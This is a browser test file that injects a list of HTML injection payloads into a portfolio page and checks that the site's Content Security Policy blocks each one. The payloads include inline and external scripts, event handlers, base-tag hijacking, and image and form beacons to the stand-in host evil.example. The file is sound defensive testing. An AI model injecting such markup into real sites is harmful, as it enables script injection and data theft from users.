import { site } from '../../support/fixture.ts';
import { expect, clearConsoleErrors, test } from '../../support/page.ts';

/** Attacks by someone who can write into a page, and the directive that blocks each. */
const ATTACKS: Record<string, RegExp> = {
  '<script>document.title = "owned"</script>': /^script-src-elem inline/,
  '<script src="https://evil.example/x.js"></script>': /^script-src-elem https:\/\/evil/,
  '<img src="/favicon.svg" onload="document.title = 1" alt="x">': /^script-src-attr/,
  '<base href="https://evil.example/">': /^base-uri/,
  '<iframe title="x" src="https://evil.example/"></iframe>': /^frame-src/,
  '<object data="https://evil.example/x"></object>': /^object-src/,
  '<style>body { display: none }</style>': /^style-src-elem/,
  '<p style="position: fixed">x</p>': /^style-src-attr/,
  '<img src="https://evil.example/?c" alt="x">': /^img-src/,
  '<form action="https://evil.example/" target="x"><button data-attack>x</button></form>': /^form-action/,
  // Firefox checks Trusted Types first.
  '<a data-attack href="javascript:document.title=1">x</a>':
    /^(script-src-elem inline|require-trusted-types-for)/,
};

test('the policy blocks what an attacker who writes into a page would try', async ({ page, baseURL }) => {
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(globalThis, { refused });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      refused.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  const asked: string[] = [];
  page.on('response', (response) => response.url().includes('evil') && asked.push(response.url()));
  await page.route('**/portfolio/', async (route) => {
    const response = await route.fetch();
    const attacks = Object.keys(ATTACKS).join('');
    await route.fulfill({ response, body: (await response.text()).replace('</main>', `${attacks}</main>`) });
  });
  await page.goto('/portfolio/');
  for (const attack of await page.locator('[data-attack]').all())
    await attack.click({ force: true, noWaitAfter: true });
  const written = page.evaluate(() => (document.body.innerHTML = '<p>x'));
  // Chromium and Firefox word it differently.
  await expect(written).rejects.toThrow(/TrustedHTML|blocked by CSP/);
  const unanswered = async () => {
    const refused = await page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
    const patterns = Object.entries(ATTACKS);
    return patterns.filter(([, pattern]) => {
      const at = refused.findIndex((what) => pattern.test(what));
      if (at >= 0) refused.splice(at, 1);
      return at < 0;
    });
  };
  await expect.poll(unanswered).toEqual([]);
  expect(await page.evaluate(() => document.title)).toContain(site.name);
  expect(page.url()).toBe(`${baseURL}/portfolio/`);
  expect(await page.evaluate(() => document.baseURI)).toBe(`${baseURL}/portfolio/`);
  expect(asked).toEqual([]);
  clearConsoleErrors(page);
});
